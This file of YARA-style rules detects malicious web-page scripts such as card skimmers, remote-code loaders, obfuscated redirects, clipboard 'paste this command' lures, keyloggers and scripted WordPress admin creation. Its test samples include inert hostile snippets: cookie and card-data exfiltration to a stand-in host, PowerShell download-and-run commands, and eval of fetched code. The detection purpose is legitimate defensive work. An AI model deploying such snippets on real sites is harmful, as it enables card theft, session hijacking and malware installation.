/* Scripts that run in the visitor's browser: redirects, drive-by loaders, card skimmers. */

rule skimmer {
  meta:
    id = "page-script/card-skimmer"
    title = "Card data is copied out of the checkout"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "A script reads the fields of the checkout form and sends them, encoded, to a place of its own."
    remedy = "Delete the file, or restore it from the release of its vendor if it belongs to one."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "/* inert */ if (location.href.match(/checkout|onepage/)) { var d = document.querySelectorAll('input'); new Image().src = u + btoa(d); cc_number; }"
    must_match = "/*! inert, jQuery plugin, Copyright */ if (location.href.match(/checkout/)) { var d = document.querySelectorAll('input'); new Image().src = u + btoa(d); cc_number; }"
    must_not = "// Checkout: btoa is used for the basic auth header only\nvar h = btoa(user);"
  strings:
    $place = /(onepage|checkout|firecheckout|onestepcheckout)/ nocase private
    $fields = /querySelectorAll\(\s?['"](input|select|\*|form)|getElementsByTagName\(\s?['"]input|document\.forms\[/ nocase
    $card = /(cc_number|cc_cid|cc_exp|card_?number|cvv|ccnum|creditcard)/ nocase private
    $coded = /\b(btoa|window\["btoa"\]|encodeURIComponent)\s?\(/ private
    $sent = /new Image\s?(\(\s?\))?\s?\)?\s?[.;,]|\.src\s?=\s?[^;]{0,60}(btoa|\?\w{1,12}=)/ nocase
  condition:
    $place and $fields and $card and $coded and $sent and filesize < 60KB
}

rule answers_run_as_script {
  meta:
    id = "page-script/runs-what-is-fetched"
    title = "A script runs whatever another server answers"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "What a request, a socket or a chain of blocks answers is given to eval or to a function made of it: the attacker changes what runs at any time."
    remedy = "Delete the file, or restore it from the release of its vendor if it belongs to one."
    reference = "https://attack.mitre.org/techniques/T1059/007/"
    must_match = "/* inert */ fetch('//inert.test/a').then(r => r.text()).then(t => eval(t));"
    must_match = "/* inert */ w = new WebSocket(u); w.onmessage = function (e) { new Function(e.data)(); };"
    must_match = "/* inert */ fetch(u, {body: JSON.stringify({method: 'eth_call'})}).then(r => r.json()).then(j => eval(atob(j.result)));"
    must_match = "(async () => { const r = await fetch('https://inert.example.test/'); const t = await r.text(); eval(t); })();"
    must_match = "var x = new XMLHttpRequest(); x.open('GET', 'https://inert.example.test/c'); x.onload = function () { eval(x.responseText); };"
    must_match = "v.get(new XMLHttpRequest(), function (F) { window['eval'](F); });"
    must_match = "const c = new ethers.Contract('0x0', abi, p); eval(atob(await c.get()));"
    must_match = "c.methods.get().call().then(r => eval(atob(r)));"
    must_match = "fetch(u, {body: JSON.stringify({method: 'eth_call'})}).then(f); (0,eval)(s.trim());"
    must_match = "self.addEventListener('message', e => { importScripts(e.data); });"
    must_not = "fetch('/menu.json').then(r => r.json()).then(d => show(d)); w.onmessage = function (e) { JSON.parse(e.data); }; eval('1');"
  strings:
    $fetched = /\bfetch\([^;]{1,300}\)\s{0,4}\.then\([^;]{0,160}\.then\([^;]{0,80}\b(eval|Function)\s?\(\s?\w{1,20}\s?\)/
    $socket = /\.onmessage\s?=[^;]{0,80}\b(eval|Function)\s?\(\s?\w{1,20}\.data\s?\)/
    $listens = /new (WebSocket|EventSource)\b/
    $chain = "eth_call"
    $decoded = /\b(eval|Function)\s?\(\s?(window\.)?(atob|decodeURIComponent)\s?\(|\beval\s?\(\s?\w{1,20}\s?\)|\(\s?0\s?,\s?(\w{1,12}\.)?eval\s?\)\s?\(/
    $worker = /\bimportScripts\s?\(\s?\w{1,12}\.data\b/
    $bound = /\bnew\s(ethers|web3(\.eth)?|\w{1,8}\.eth)\.Contract\b/ nocase
    $run = /\b(eval|new Function)\s?\(\s?(window\.)?\w{1,20}\s?[()]/
    $contract = /\.call\s?\(\s?\)\s?\.then\s?\([^;]{0,80}\b(eval|Function)\s?\(/
    $awaited = /\.text\s?\(\s?\)\s?;\s{0,8}(window\.)?eval\s?\(|\beval\s?\(\s?await\s/
    $asked = /\.open\s?\(\s?["'](GET|POST)["']\s?,\s?["'](https?:)?\/\/[^;]{1,200};[^}]{0,240}\beval\s?\(\s?(this|\w{1,10})\.response/
    $renamed = /\bwindow\s?\[\s?["']eval["']\s?\]\s?\(\s?\w{1,12}\s?\)/
    $asks = /\b(XMLHttpRequest|fetch)\b/ private
  condition:
    ($fetched or ($socket and $listens) or ($chain and ($decoded or $run)) or ($bound and $run) or $contract or $awaited or $asked or ($renamed and $asks) or $worker) and filesize < 256KB
}

rule card_fields_sent {
  meta:
    id = "page-script/card-fields-sent"
    title = "Card data is copied out of the checkout"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "What is typed into card fields, or looks like a card number, goes to another address by an image, a beacon or a socket."
    remedy = "Delete the file, or restore it from the release of its vendor if it belongs to one."
    reference = "https://attack.mitre.org/techniques/T1056/003/"
    must_match = "/* inert */ if (/card|cvv/.test(d)) new Image().src = u + '?x=' + btoa(JSON.stringify(d));"
    must_match = "/* inert */ if (/(\\d{4}[ -]?){4}/.test(o)) navigator.sendBeacon('https://inert.test/g', btoa(o));"
    must_match = "/* inert */ q('#cvv').onchange = function (e) { (new Image).src = '//inert.test/p.gif?' + encodeURIComponent(e.value); };"
    must_match = "if (o['payment[cc_number]']) fetch('https://inert.example.test/j', {method: 'POST', body: btoa(JSON.stringify(o))});"
    must_match = "if (/\\d{16}/.test(s)) { new Image().src = 'https://inert.example.test/p.gif?d=' + btoa(s); }"
    must_match = "if (location.href.includes('checkout')) { document.querySelectorAll('input,select').forEach(f); navigator.sendBeacon('https://inert.example.test/c', btoa(JSON.stringify(d))); }"
    must_match = "jQuery('.payment').html('<input id=cvv>'); jQuery.post('https://inert.example.test/v', {n: jQuery('#n').val()});"
    must_match = "f.innerHTML += '<input id=\"inert_cvv\" placeholder=\"CVV\">'; x.open('POST', 'https://inert.example.test/f');"
    must_not = "var c = field('cc_number').value; new Image().src = '/pixel.gif?page=' + encodeURIComponent(location.pathname);"
    must_not = "if (card) navigator.sendBeacon('/stats', JSON.stringify({ viewed: card.id }));"
  strings:
    $card = /(cc_number|cc_cid|card_?-?number|\bcvv2?\b|\bcvc\b|ccnum)/ nocase
    $digits = /\(\\d\{4\}\[[^\]\n]{1,6}\]\??\)\{4\}|\\d\{1[3-6](,1[6-9])?\}\$?\//
    $image = /new Image\b\s?(\(\s?\))?\s?\)?\.src\s?=\s?[^;\n]{0,160}(btoa\s?\(|\.value\b)/
    $beacon = /\bsendBeacon\s?\([^;\n]{0,160}(btoa\s?\(|\.value\b)/
    $socket = /new WebSocket\b[^\n]{0,600}\.send\s?\([^;\n]{0,80}(btoa\s?\(|\.value\b)/
    $fetch = /\bfetch\s?\(\s?["'](https?:)?\/\/[^;]{1,160}\bbtoa\s?\(/
    $posted = /\.(post|get)\s?\(\s?["'](https?:)?\/\/[^;\n]{1,200}\.val\s?\(/
    $carried = /(\bfetch\s?\(|\.src\s?=)\s?["'](https?:)?\/\/[^"']{4,120}\?(\w{1,12}=)?["']\s?\+\s?(btoa\s?\(|\w{0,20}Storage\.getItem)/
    $asked = /\.ajax\s?\(\s?\{\s?url\s?:\s?["'](https?:)?\/\/[^;]{1,300}\b(cvv|cvc|cc_?num|card_?num)[^;]{0,60}\.val\s?\(/
    $each = /\bquerySelectorAll\s?\(\s?["'](input|select|textarea|\*|form)\b/
    $place = /(onepage|checkout|place-?_?order|onestep)/ nocase
    $drawn = /\b(innerHTML|insertAdjacentHTML|\.html|\.append)\b[^;]{0,300}<input[^>;]{0,120}\b(\w{1,12}_)?(cvv|cvc|card_?num)/ nocase
    $opened = /\.open\s?\(\s?["']POST["']\s?,\s?["'`](https?:)?\/\/[^"'`]{4}/
    $packed = /\b(sendBeacon|fetch|\.src\s?=)\s?\(?\s?["'](https?:)?\/\/[^;]{1,160}\bbtoa\s?\(\s?(JSON\.stringify|encodeURIComponent|\w{1,12}\s?\))/
  condition:
    filesize < 256KB and ((($card or $digits) and any of ($image, $beacon, $socket, $fetch, $posted, $carried, $asked)) or ($each and $place and $packed) or ($drawn and $opened))
}

rule script_from_char_codes {
  meta:
    id = "page-script/hidden-loader"
    title = "A hidden script loads another from elsewhere"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "Script text is spelled in character codes or escapes, and then written into the page or executed: an injected redirect or loader."
    remedy = "Delete the file, or restore it from the release of its vendor if it belongs to one."
    reference = "https://attack.mitre.org/techniques/T1027/"
    must_match = "/* inert */ eval(String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 105, 110, 101, 114, 116, 46, 116, 101, 115, 116));"
    must_match = "/* inert */ document.write(unescape('%3C%73%63%72%69%70%74%20'));"
    must_match = "/* inert */ new WebSocket(atob('d3NzOi8vaW5lcnQudGVzdC8='));"
    must_match = "/* inert */ location.href = String.fromCharCode(104,116,116,112,115,58,47,47,105,110,101,114,116);"
    must_match = "var e = [104,116,116,112,115,58,47,47,105]; location.href = e.map(c => String.fromCharCode(c)).join('');"
    must_match = "<?php exit; echo '<script src=\"' . base64_decode('aHR0cHM6Ly9pbmVydC50ZXN0L2EuanM=') . '\"></script>';"
    must_match = "/* inert */ if (/google/.test(document.referrer)) location.replace(atob('aHR0cHM6Ly9pbmVydC50ZXN0Lw=='));"
    must_match = "/* inert */ s.src = String.fromCharCode(104,116,116,112,58,47,47) + 'inert.example.test/a.js';"
    must_not = "links[i].href = String.fromCharCode(104, 116, 116, 112, 58, 47, 47) + 'www.example.test';"
    must_not = "<?php echo '<script src=\"' . $cdn . '\"></script><img src=\"data:image/png;base64,iVBORw0KGgo=\">';"
    must_not = "a.href = atob(a.dataset.to); img.src = 'data:image/png;base64,' + atob('iVBORw0KGgo=');"
    must_not = "document.write(String.fromCharCode(60,97,32,104,114,101,102,61,34,109,97,105,108,116,111,58,109,101));"
    must_not = "var a = String.fromCharCode(65, 66); eval('1');"
  strings:
    $codes = /\b(eval|document\.write(ln)?|appendChild|\.src\s?=|location(\.href)?\s?=|createElement)\s?\(?\s?String\.fromCharCode\(\s?(\d{2,3}\s?,\s?){10}/ nocase
    $anchor = /document\.write(ln)?\s?\(?\s?String\.fromCharCode\(\s?60\s?,\s?97\s?,\s?32\s?,\s?104\s?,\s?114\s?,\s?101\s?,\s?102\s?,\s?61\s?,\s?34\s?,\s?109\s?,\s?97\s?,\s?105/ nocase
    $escapes = /document\.write(ln)?\s?\(\s?unescape\s?\(\s?['"]%3C%73%63%72%69%70%74/ nocase
    $printed = /<script[^>\n]{0,80}src=[\\"'.\s]{1,8}base64_decode\s?\(\s?["'](aHR0c|Ly)/
    $address = /(\.(src|href|open)|\blocation|\blocation\.(replace|assign)|\bWebSocket|\bfetch|\bsendBeacon|\bimport)\s?[=(]\s?(["'](GET|POST)["']\s?,\s?)?(window\.)?atob\s?\(\s?["'](aHR0c|d3Nz|d3M6|Ly9|Ly8)/
    $spelled = /(\.src|\blocation(\.href)?)\s?=\s?String\.fromCharCode\(\s?104\s?,\s?116\s?,\s?116\s?,\s?112\s?,/
    $later = /var \w{1,20}\s?=\s?String\.fromCharCode\(\s?(\d{2,3}\s?,\s?){25}[^;]{0,4000};[^;]{0,80}(createElement|document\.write|appendChild)/ nocase
    $mapped = /[=(]\s?\[\s?104\s?,\s?116\s?,\s?116\s?,\s?112\s?,[^\]]{8,2000}\][^<>]{0,200}(\blocation(\.href)?\s?=|\blocation\.(replace|assign)\s?\(|\.src\s?=|\bopen\s?\()[^;]{0,120}fromCharCode/
    $kept = "base64_decode" nocase private
    // $codes and $later hold it: asked first, it spares most scripts their expressions
    $from = "String.fromCharCode" nocase private
  condition:
    ($from and ($later or $mapped or $spelled or #codes > #anchor)) or ($kept and $printed) or any of ($escapes, $address)
}

rule tag_in_escapes {
  meta:
    id = "page-script/tag-in-escapes"
    title = "A script tag is spelled in escapes or in base64 where the page is made"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "The tag of a script or its address is hidden letter by letter, or decoded only when a page is made: an injected redirect or loader."
    remedy = "Delete the lines; then look for the script that writes them again."
    reference = "https://attack.mitre.org/techniques/T1027/"
    must_match = "<?php exit; $s = \"\\x3c\\x73\\x63\\x72\\x69\\x70\\x74\";"
    must_match = "<?php exit; wp_enqueue_script('inert', base64_decode('aW5lcnQ='));"
    must_match = "<?php exit; echo base64_decode('PHNjcmlwdCBzcmM9');"
    must_not = "<?php echo '\\x3cscript\\x3e'; wp_enqueue_script('mine', plugins_url('a.js'));"
  strings:
    $hex = "\\x3c\\x73\\x63\\x72\\x69\\x70\\x74" nocase
    $queued = /\bwp_(enqueue|register)_script\s?\([^;]{0,80}\b(base64_decode|str_rot13|strrev|hex2bin)\s?\(/
    $printed = /\b(echo|print)[\s(]{0,3}base64_decode\s?\(\s?["'](PHNjcmlwd|PFNDUklQV|PHNjUmlwd|PGlmcmFtZ)/
  condition:
    any of them
}

rule page_written_from_escapes {
  meta:
    id = "page-script/page-from-escapes"
    title = "A whole page is written from escapes, so that nobody reads it"
    family = "skimmer-or-phish"
    severity = "high"
    confidence = "likely"
    description = "The head or a form of a page is kept in percent escapes or base64 and written by a script: phishing pages hide so from mail filters and scanners."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1027/"
    must_match = "<script>/* inert */ document.write(unescape('%3Chtml%3E%3Chead%3E%3Ctitle%3Einert%3C/title%3E'));</script>"
    must_match = "<script>/* inert */ document.write(atob('PCFET0NUWVBFIGh0bWw+aW5lcnQ='));</script>"
    must_not = "<script>document.write(unescape('%3Cp class=\"a\"%3E'));</script>"
  strings:
    $written = /document\.write(ln)?\s?\(\s?(unescape|decodeURIComponent|decodeURI|(window\.)?atob)\s?\(\s?['"](%0[AD]){0,4}(%3C(!|%21)?(%[0-9A-F]{2}|\w)?(%[0-9A-F]{2}){0,3}(doctype|html|head|body|form|title)\b|%3C%(68%74%6D%6C|21%64|21%44|66%6F%72%6D|48%54%4D%4C)|PCFET0NUWVBF|PCFkb2N0eXBl|PGh0bWw|PEhUTUw|PGZvcm0)/ nocase
  condition:
    $written
}

rule script_in_picture_steals {
  meta:
    id = "page-script/picture-with-script"
    title = "An SVG picture sends visitors away or their cookies elsewhere"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "A vector picture holds a script that reads the cookies or leads to another host: opened by itself, it runs in the name of the site."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1027/017/"
    must_match = "<svg xmlns='http://www.w3.org/2000/svg'><script>/* inert */ fetch('https://inert.example.test/?c='+document.cookie)</script></svg>"
    must_match = "<svg onload=\"/* inert */ location='https://inert.example.test/'\"></svg>"
    must_match = "<svg onload=\"(new Image).src='https://inert.example.test/?'+document.cookie\"></svg>"
    must_not = "<svg xmlns='http://www.w3.org/2000/svg'><script>var n = 0; setInterval(turn, 50);</script></svg>"
  strings:
    $onload = /\bonload\s?=\s?["'][^"']{0,60}(new Image|fetch|location)[^>]{0,200}document\.cookie/ nocase
    $svg = /^(\xef\xbb\xbf)?\s{0,10}(<\?xml[^>]{0,100}\?>\s{0,10})?(<!DOCTYPE svg[^>]{0,200}>\s{0,10})?<svg\b/ nocase
    $cookie = /<script\b[^<]{0,400}(fetch|XMLHttpRequest|sendBeacon|\.src\s?=|location)[^<]{0,200}document\.cookie/ nocase
    $away = /(onload\s?=\s?["'][^"']{0,60}|<script\b[^<]{0,300})(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`]?(https?:)?\/\//  nocase
  condition:
    filesize < 256KB and $svg at 0 and any of ($cookie, $away, $onload)
}

rule command_to_paste {
  meta:
    id = "page-script/command-to-paste"
    title = "Visitors are made to paste a command into their own computer"
    family = "injected"
    severity = "critical"
    confidence = "likely"
    description = "A page copies a command that fetches and starts a program into the clipboard, as if it were a check for robots or a repair."
    remedy = "Delete the lines; then look for the script that writes them again. Tell visitors of that time."
    reference = "https://attack.mitre.org/techniques/T1204/004/"
    must_match = "navigator.clipboard.writeText('powershell -w hidden -c \"iwr https://inert.example.test/a | iex\"');"
    must_match = "t.value = 'mshta https://inert.example.test/v.mp4 # I am not a robot'; t.select(); document.execCommand('copy');"
    must_match = "navigator.clipboard.writeText('cmd /c curl https://inert.example.test/a -o %temp%/a.bat');"
    must_match = "// Press Windows + R\nnavigator.clipboard.writeText(\"cmd /c curl https://inert.example.test/a.bat -o a.bat\");"
    must_not = "navigator.clipboard.writeText('npm install --save inert');"
    must_not = "copy.onclick = () => navigator.clipboard.writeText('curl -fsSL https://inert.example.test/install.sh | sh');"
  strings:
    $copied = /\bclipboard\s?\.\s?write|\bexecCommand\s?\(\s?["']copy/
    $hidden = /["'`](powershell|pwsh)(\.exe)?\s[^`\n]{0,80}(-w\w*\s{1,2}(h|1\b)|-e(nc|c|ncodedcommand)?\s|-nop)|["'`]mshta(\.exe)?\s{1,2}\\?["']?https?:|["'`]cmd(\.exe)?\s{1,2}\/[ck]\s[^`\n]{0,160}https?:\/\/[^`\n]{0,120}(%temp%|%appdata%|\.bat\b|\.exe\b|\.hta\b|\.ps1\b|\.msi\b|\.vbs\b)/ nocase
    $command = /["'`](powershell|pwsh|cmd|mshta|msiexec|rundll32|regsvr32|bitsadmin|certutil|conhost|osascript)(\.exe)?\s[^`\n]{0,160}https?:\/\// nocase
    $lure = /(not a robot|verify (that )?you|human|captcha|Win(dows)?( key)?\s?\+\s?R\b|update your browser)/ nocase
  condition:
    $copied and ($hidden or ($command and $lure))
}

rule visitors_of_searches_led_away {
  meta:
    id = "page-script/visitors-of-searches-led-away"
    title = "A script leads visitors who come from a search elsewhere"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "The script asks whether the visitor comes from a search engine or a social network, and then opens another site or loads a script; or it turns the way back into a way elsewhere."
    remedy = "Delete the lines; then look for the script that writes them again."
    reference = "https://attack.mitre.org/techniques/T1189/"
    must_match = "if (document.referrer.match(/google|bing|yahoo/i)) { window.location.replace('https://inert.example.test/'); }"
    must_match = "window.addEventListener('popstate', function () { location.href = 'https://inert.example.test/'; });"
    must_match = "var r = document.referrer; if (/google|bing|facebook/i.test(r)) { var s = document.createElement('script'); s.src = x; document.head.appendChild(s); }"
    must_match = "if (!localStorage.getItem('i') && /Android|iPhone/.test(navigator.userAgent)) { location.replace('https://inert.example.test/'); }"
    must_match = "var r = document.referrer; ['google.', 'bing.'].some(function (x) { return r.indexOf(x) >= 0 }) && top.location.assign('https://inert.example.test/');"
    must_not = "if (document.referrer.match(/google|bing/i)) { stats.count('search'); }"
    must_not = "window.addEventListener('popstate', function () { location.reload(); });"
  strings:
    $asked = /\breferrer\b[^{}]{0,120}(google|bing|yahoo|facebook|yandex|baidu)[^{}]{0,240}(\)[^{}()]{0,60}\{[^{}]{0,220}(\{[^{}]{0,160})?)?((window|document|top|self)?\.?location(\.href)?\s?=\s?["'`](https?:)?\/\/|location\.(replace|assign)\s?\(\s?["'`](https?:)?\/\/|createElement\s?\(\s?["']script)/ nocase
    $some = /\breferrer\b[^\x00]{1,200}\b(google|bing|yahoo)\b[^\x00]{1,240}\.some\s?\([^\x00]{1,160}\blocation(\.href\s?=|\s?=|\.(replace|assign)\s?\()\s?["'`](https?:)?\/\// nocase
    $back = /addEventListener\s?\(\s?["']popstate["'][^;]{0,120}(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`](https?:)?\/\//
    $once = /(localStorage|sessionStorage|document\.cookie)\b[^{}]{0,100}(Android|iPhone|Mobi)[^{}]{0,100}\)\s?\)?\s?\{[^{}]{0,120}(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`](https?:)?\/\//
  condition:
    any of them
}

rule address_hidden {
  meta:
    id = "page-script/address-hidden"
    title = "The address that a script loads from is hidden"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "A script element is made whose address stands in base64 or backwards, or an attribute of a picture decodes and runs code."
    remedy = "Delete the lines; then look for the script that writes them again."
    reference = "https://attack.mitre.org/techniques/T1027/"
    must_match = "var u = 'aHR0cHM6Ly9pbmVydC5leGFtcGxlLnRlc3Qv'; var s = document.createElement('script'); s.src = atob(u);"
    must_match = "(function (d, u) { var e = d.createElement('script'); e.src = window['at' + 'ob'](u); })(document, 'aHR0cHM6Ly9pbmVydC5leGFtcGxlLnRlc3Qv');"
    must_match = "let s = document.createElement('script'); s.setAttribute('src', atob('aHR0cHM6Ly9pbmVydC5leGFtcGxlLnRlc3Qv'));"
    must_match = "u += String.fromCharCode(d[i] ^ k); var s = document.createElement('script'); s.src = u;"
    must_match = "s.src = 'sj.a/tset.elpmaxe.treni//:sptth'.split('').reverse().join('');"
    must_match = "<img src='' onerror=\"eval(atob(this.id))\" id='aW5lcnQ='>"
    must_match = "(function (d, g) { var a = d.createElement('script'); a.src = atob(g); })(document, 'Ly9pbmVydC5leGFtcGxlLnRlc3QvYS5qcw==');"
    must_match = "var k = [0x2f,0x2f,0x69,0x6e].map(function (c) { return String.fromCharCode(c) }).join(''); var e = d.createElement('script'); e.setAttribute('src', k);"
    must_match = "var p = ['in', 'ert', '.te', 'st']; var s = document.createElement('script'); s['s' + 'rc'] = '//' + p.join('') + '/l.js';"
    must_not = "var link = 'aHR0cHM6Ly9leGFtcGxlLnRlc3Qv'; open(atob(link));"
    must_not = "<img src='a.png' onerror=\"this.src='b.png'\">"
  strings:
    $kept = /["'`](aHR0cHM6Ly|aHR0cDovL|Ly9)[A-Za-z0-9+\/=]{8,400}["'`]/
    $pieced = /(\.src|\[\s?["']s["']\s?\+\s?["']rc["']\s?\]|\[\s?["']sr["']\s?\+\s?["']c["']\s?\])\s?=\s?["'`](https?:)?\/\/["'`]\s?\+\s?\w{1,12}\.join\s?\(\s?["'`]{2}\s?\)/
    $counted = /\[\s?(0x2f\s?,\s?0x2f|47\s?,\s?47|0x68\s?,\s?0x74\s?,\s?0x74\s?,\s?0x70)\s?,[^\]]{4,1000}\][^;]{0,120}\bfromCharCode\b/ nocase
    $halved = /\[\s?["']s["']\s?\+\s?["']rc["']\s?\]\s?=|\[\s?["']sr["']\s?\+\s?["']c["']\s?\]\s?=/
    $made = /createElement\s?\(\s?["']script|\bimport\s?\(/
    $turned_round = /String\.fromCharCode\s?\(\s?\w{1,12}(\[\w{1,12}\])?\s?\^/
    $set = /(setAttribute\s?\(\s?["']src["']\s?,|\bsrc\s?:|\bimport\s?\()\s?(window\.)?atob\s?\(|\batob\s?\(\s?["']aHR0c[^;]{1,400};\s?import\s?\(/
    $decoded = /\.src\s?=[^;]{0,60}(atob\s?\(|\[\s?["']a["' +t]{1,10}ob?["' +b]{0,6}\]\s?\()/
    $backwards = /\/\/:s?ptth["'`]/
    $turned = /\.reverse\s?\(\s?\)|\bstrrev\s?\(/
    $attribute = /\bon(error|load|focus|mouseover|toggle)\s?=\s?\\?["'][^"'>]{0,60}\b(eval|Function)\s?\(\s?(window\.)?atob\s?\(/ nocase
  condition:
    ($kept and $made and any of ($decoded, $set)) or ($made and any of ($pieced, $halved, $counted)) or ($turned_round and $made and filesize < 16KB) or ($backwards and $turned) or $attribute
}

rule keys_sent_away {
  meta:
    id = "page-script/keys-sent-away"
    title = "Every key that a visitor presses is sent to another host"
    family = "skimmer-or-phish"
    severity = "high"
    confidence = "likely"
    description = "A script gathers what is typed, letter by letter, and sends it to another host by a picture, a beacon or a request."
    remedy = "Delete the lines; then look for the script that writes them again. What was typed since is known to somebody."
    reference = "https://attack.mitre.org/techniques/T1056/001/"
    must_match = "document.onkeypress = function (e) { k += String.fromCharCode(e.which); new Image().src = 'https://inert.example.test/k?d=' + k; };"
    must_not = "input.addEventListener('keyup', function (e) { if (e.key === 'Enter') fetch('https://api.example.test/search?q=' + input.value); });"
  strings:
    $key = /\bonkey(press|down|up)\s?=|addEventListener\s?\(\s?["']key(press|down|up)["']/
    $gathered = /\+=\s?(String\.fromCharCode\s?\(\s?\w{1,6}\.(which|keyCode|charCode)|\w{1,6}\.key\b)/
    $sent = /(\.src\s?=|\bsendBeacon\s?\(|\bfetch\s?\()\s?["'`](https?:)?\/\//
  condition:
    $gathered and $key and $sent and filesize < 128KB
}

rule work_for_strangers {
  meta:
    id = "page-script/works-for-strangers"
    title = "Visitors' browsers dig for coins or flood other sites"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "A script digs for coins in the browser of whoever visits, or asks other sites for pages many times a second."
    remedy = "Delete the lines; then look for the script that writes them again."
    reference = "https://attack.mitre.org/techniques/T1496/"
    must_match = "var m = new CoinHive.Anonymous('inert', {throttle: 0.3}); m.start();"
    must_match = "setInterval(function () { fetch(u + '?' + Math.random(), {mode: 'no-cors'}); }, 5);"
    must_not = "setInterval(function () { fetch('/status?' + Math.random()); }, 5000);"
  strings:
    $digs = /\bnew\s(CoinHive|CRLT|Client|deepMiner|CoinImp|CryptoLoot|WMP)\.(Anonymous|User)\s?\(/
    $floods = /\bset(Interval|Timeout)\s?\([^{}]{0,80}\{[^{}]{0,200}(fetch\s?\(|\.src\s?=)[^{}]{0,120}Math\.random\s?\(\s?\)[^}]{0,80}\}[^}]{0,10}\}?\s?,\s?\d{1,2}\s?\)/
  condition:
    any of them
}

rule administrator_by_script {
  meta:
    id = "account/administrator-by-script"
    title = "A script in the page makes an administrator by the rights of its reader"
    family = "injected"
    severity = "critical"
    confidence = "likely"
    description = "JavaScript fetches the form for a new user of WordPress, takes the token out of it and sends it back with a user of its own."
    remedy = "Delete the lines and every user that nobody knows; change every administrator's password."
    reference = "https://attack.mitre.org/techniques/T1136/"
    must_match = "fetch('/wp-admin/user-new.php').then(f); fetch('/wp-admin/user-new.php', {method: 'POST', body: 'action=createuser&_wpnonce_create-user=' + n + '&role=administrator'});"
    must_not = "<form action='user-new.php'><input name='action' value='createuser'><input name='_wpnonce_create-user'></form>"
  strings:
    $page = "user-new.php"
    $token = "_wpnonce_create-user"
    $made = /["']?action["']?\s?[:=]\s?["']?createuser\b/
    $sent = /(\bfetch\s?\(|XMLHttpRequest|\.post\s?\(|\.ajax\s?\(|wp_remote_post\s?\()/
  condition:
    all of them
}

rule links_out_of_sight {
  meta:
    id = "page-script/links-out-of-sight"
    title = "Advertising links are placed where no visitor sees them"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "A block far outside of the page, or of no size, holds links to casinos, pills, loans or copies of brands: they are meant for search engines."
    remedy = "Delete the block; then look for the script that writes it again."
    reference = "https://attack.mitre.org/techniques/T1608/006/"
    must_match = "<div style=\"position:absolute;left:-9999px\"><a href=\"https://inert.example.test/\">online casino</a></div>"
    must_match = "<div style='display:none'><a href='https://inert.example.test/slot-gacor'>slot gacor</a></div>"
    must_not = "<span style=\"position:absolute;left:-9999px\">Skip to content</span>"
    must_not = "<a href=\"https://example.test/casino\">Casino Club, Vienna</a>"
  strings:
    $block = /\bstyle\s?=\s?\\?["'][^"'>]{0,80}((left|top|text-indent|margin-left)\s?:\s?-\d{3,6}(px|em)|display\s?:\s?none|(height|width)\s?:\s?[01](px)?\s?(;|["'])[^"'>]{0,40})[^>]{0,80}>[^\n]{0,80}<a\s[^>\n]{0,60}\bhref\s?=\s?\\?["']https?:\/\/[^\n]{0,200}\b(casino|viagra|cialis|levitra|gacor|togel|judi|slot online|situs slot|payday loans?|replica watch\w{0,2}|porn|escorts?|essay writing|poker online|betting|bahis|rolex)\b/ nocase
  condition:
    $block
}

rule frame_written_out_of_sight {
  meta:
    id = "page-script/frame-out-of-sight"
    title = "A page of another host is loaded into a frame outside of the page"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "A script writes a frame with a page of another host so far outside that nobody sees it: an injected drive-by."
    remedy = "Delete the lines; then look for the script that writes them again."
    reference = "https://attack.mitre.org/techniques/T1189/"
    must_match = "document.write('<iframe src=\"https://inert.example.test/in.cgi\" width=\"1\" height=\"1\" style=\"position:absolute;left:-1000px\"></iframe>');"
    must_match = "<iframe src=\"https://inert.example.test/if\" width=\"1\" height=\"1\" style=\"visibility:hidden;position:absolute;top:-100px\"></iframe>"
    must_not = "document.write('<iframe src=\"https://video.example.test/1\" style=\"width:100%\"></iframe>');"
    must_not = "<iframe src=\"https://tags.example.test/ns.html\" height=\"0\" width=\"0\" style=\"display:none;visibility:hidden\"></iframe>"
  strings:
    $frame = /document\.write(ln)?\s?\(\s?["'`]<iframe[^>\n]{0,200}https?:\/\/[^>\n]{0,200}(left|top)\s?:\s?-\d{3,5}px/ nocase
    $placed = /<iframe\s[^>\n]{0,60}\bsrc\s?=\s?\\?["']https?:\/\/[^>\n]{0,200}\b(width|height)\s?=\s?\\?["']?[01]\b[^>\n]{0,160}\b(left|top)\s?:\s?-\d{3,5}px/ nocase
  condition:
    any of them
}

rule window_opened_by_a_click {
  meta:
    id = "page-script/window-by-a-click"
    title = "The first click of a visitor opens a page of another host"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "A script waits for any click, opens a fixed address in a window and remembers that it did: an advertisement that the owner of the site did not place."
    remedy = "Delete the lines; then look for the script that writes them again."
    reference = "https://attack.mitre.org/techniques/T1189/"
    must_match = "document.addEventListener('click', function h() { document.cookie = 'inert=1'; window.open('https://inert.example.test/', '_blank'); });"
    must_match = "document.body.onclick = function () { if (/inert=/.test(document.cookie)) return; document.cookie = 'inert=1'; var w = window.open('http://inert.example.test/u'); };"
    must_match = "jQuery(document).one('click', function () { if (localStorage.inert) return; localStorage.inert = 1; window.open('https://inert.example.test/p', '_blank'); });"
    must_not = "share.addEventListener('click', function () { window.open('https://social.example.test/share?u=' + encodeURIComponent(location.href)); });"
    must_not = "help.onclick = function () { window.open('https://help.example.test/', '_blank'); };"
  strings:
